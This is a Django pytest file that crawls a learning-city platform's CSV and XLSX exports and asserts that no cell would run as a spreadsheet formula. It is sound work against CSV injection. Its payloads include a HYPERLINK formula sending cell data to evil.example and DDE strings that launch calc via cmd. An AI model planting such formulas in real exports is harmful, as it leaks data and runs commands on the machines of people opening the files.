"""No CSV or XLSX file the platform hands out carries a live formula (CSV injection, OWASP).

The exports are found, not listed: every named page pattern is requested (a `fmt` parameter as csv and as xlsx),
and every download link of every page (an `<a download>`, an `export=` or `format=` query, a .csv or .xlsx
path) is followed; every answer that is a CSV or an XLSX file is checked. An export added tomorrow is covered
without touching this file. The demo city's spaces and areas carry formula payloads in their texts first.
"""

import csv
import io
import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.test import Client
from django.urls import NoReverseMatch, Resolver404, resolve, reverse
from openpyxl import load_workbook

from learningcity.core.models import Area
from learningcity.places.models import LearningSpace

from .walks import Values, _victim, url_patterns

pytestmark = [pytest.mark.walk, pytest.mark.django_db]

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Texts a spreadsheet runs: the two of security issue 16, and the other starts (@, +, tab, CR, after spaces).
HYPERLINK = '=1+HYPERLINK("http://evil.example/?d="&B2,"Open map")'
DDE = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = {
    "address": HYPERLINK,
    "description_vi": DDE,
    "name_vi": "@SUM(1+1)*cmd|' /C calc'!A0 ",  # + the space's own name
    "name_en": "+1+1 ",
    "area_name_vi": "  =2+5 ",  # a formula after leading spaces
    "area_name_en": "\t=3+4 ",
}
MARKERS = ["evil.example", "cmd|' /C calc'!A0", "=2+5", "+1+1"]
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def runs_as_formula(text: str) -> bool:
    """This test's own reading of the OWASP rule (independent of learningcity.core.cells)."""
    if text[:1] in ("\t", "\r"):
        return True
    stripped = text.lstrip()
    return stripped[:1] in ("=", "+", "-", "@") and text != "-" and not _PLAIN_NUMBER.fullmatch(text)


def inject(city) -> None:
    for space in LearningSpace.objects.filter(city=city):
        LearningSpace.objects.filter(pk=space.pk).update(
            address=PAYLOADS["address"],
            description_vi=PAYLOADS["description_vi"],
            name_vi=PAYLOADS["name_vi"] + space.name_vi,
            name_en=PAYLOADS["name_en"] + (space.name_en or space.name_vi),
        )
    for area in Area.objects.filter(city=city):
        Area.objects.filter(pk=area.pk).update(
            name_vi=PAYLOADS["area_name_vi"] + area.name_vi,
            name_en=PAYLOADS["area_name_en"] + (area.name_en or area.name_vi),
        )


class Links(HTMLParser):
    """The site's own links of a page; `downloads` are those that look like files."""

    def __init__(self):
        super().__init__()
        self.links: list[str] = []
        self.downloads: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        href = a.get("href") or ""
        if tag != "a" or not href or href.startswith(("#", "mailto:", "tel:", "http")):
            return
        self.links.append(href)
        if (
            "download" in a
            or re.search(r"[?&](export|format)=", href)
            or urlsplit(href).path.endswith((".csv", ".xlsx"))
        ):
            self.downloads.append(href)


def view_name(url: str) -> str | None:
    try:
        return resolve(urlsplit(url).path).view_name
    except Resolver404:
        return None


def spreadsheet_kind(response) -> str | None:
    kind = response.get("Content-Type", "").split(";")[0].strip()
    return {"text/csv": "csv", XLSX: "xlsx"}.get(kind)


def cells_of(kind: str, body: bytes) -> list[tuple[str, object, str, bool]]:
    """(where, value, data type, quote-prefixed) of every cell."""
    if kind == "csv":
        rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
        return [
            (f"row {r} col {c}", v, "s", False) for r, row in enumerate(rows, 1) for c, v in enumerate(row, 1)
        ]
    workbook = load_workbook(io.BytesIO(body))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type, bool(cell.quotePrefix))
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def problems_in(url: str, kind: str, body: bytes, seen: dict) -> list[str]:
    found = []
    for where, value, data_type, quoted in cells_of(kind, body):
        if data_type == "f":
            found.append(f"{url} {where}: a formula {value!r}")
            continue
        if not isinstance(value, str):
            continue
        for marker in MARKERS:
            if marker in value:
                seen.setdefault(kind, set()).add(marker)
        if runs_as_formula(value) and not (kind == "xlsx" and quoted):
            found.append(f"{url} {where}: {value!r} would run as a formula")
    return found


def test_no_export_holds_a_formula_whatever_the_data():  # noqa: C901 - one test over every export, each branch an export
    city, network = _victim()
    inject(city)
    client = Client(raise_request_exception=False)
    client.force_login(network)
    values = Values(city)
    exports: dict[str, str] = {}  # url -> kind
    names: set[str] = set()
    problems: list[str] = []
    seen: dict = {}
    visited: set[str] = set()

    reached: set[str] = set()  # pattern names that answered 200
    linked: dict[str, str] = {}  # pattern name -> the first link to it that a page shows

    def visit(url: str) -> None:
        if url in visited:
            return
        visited.add(url)
        response = client.get(url)
        if response.status_code != 200:
            return
        name = view_name(url) or url
        reached.add(name)
        kind = spreadsheet_kind(response)
        if kind:
            exports[url] = kind
            names.add(name)
            problems.extend(problems_in(url, kind, response.content, seen))
            return
        if "text/html" not in response["Content-Type"]:
            return
        parser = Links()
        parser.feed(response.content.decode("utf-8", errors="replace"))
        for href in parser.links:
            target = urljoin(url, href)
            linked.setdefault(view_name(target) or target, target)
        for href in parser.downloads:
            visit(urljoin(url, href))

    for name, params, app_label, route in url_patterns():
        if not name or route.startswith(("admin/", "api/")) or not any(p[0] == "city_slug" for p in params):
            continue
        kwargs = values.for_params(params, app_label, city.slug)
        formats = ["csv", "xlsx"] if any(p[0] in ("fmt", "format", "ext") for p in params) else [None]
        for fmt in formats:
            if fmt:
                kwargs.update({p[0]: fmt for p in params if p[0] in ("fmt", "format", "ext")})
            try:
                visit(reverse(name, kwargs=kwargs))
            except NoReverseMatch:
                continue
    # A pattern whose parameters the guess could not fill (an indicator's code) is reached by a page's link to it.
    for name, url in list(linked.items()):
        if name not in reached:
            visit(url)

    assert not problems, "\n".join(problems[:30])
    # The walk found the exports of every app that has one, in both formats.
    assert {
        "places:space_export",
        "analytics_dashboard",
        "analytics_dashboard_staff",
        "analytics_indicator",
    } <= names
    assert {"csv", "xlsx"} == set(exports.values())
    # The payloads reached the files (so the check above looked at them), in both formats.
    for kind in ("csv", "xlsx"):
        assert set(MARKERS) <= seen.get(kind, set()), (kind, seen)


def test_the_space_export_keeps_the_injected_text_and_real_numbers(client, city, areas):
    """The address and description come back whole (CSV quoted, XLSX as text); numbers, negative too, stay numbers."""
    from learningcity.places.tests.factories import SpaceFactory

    SpaceFactory(
        city=city, area=areas["chieng_coi"], address=HYPERLINK, description_vi=DDE, lat=-12.5, capacity=40
    )
    rows = list(csv.reader(io.StringIO(client.get("/son-la/spaces/export.csv").content.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert row[header.index("address")] == "'" + HYPERLINK
    assert row[header.index("description_vi")] == "'" + DDE
    assert (row[header.index("lat")], row[header.index("capacity")]) == ("-12.5", "40")

    sheet = load_workbook(io.BytesIO(client.get("/son-la/spaces/export.xlsx").content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert (cells["address"].value, cells["address"].data_type) == (HYPERLINK, "s")
    assert cells["address"].quotePrefix
    assert (cells["description_vi"].value, cells["description_vi"].data_type) == (DDE, "s")
    assert (cells["lat"].value, cells["lat"].data_type) == (-12.5, "n")
    assert (cells["capacity"].value, cells["capacity"].data_type) == (40, "n")
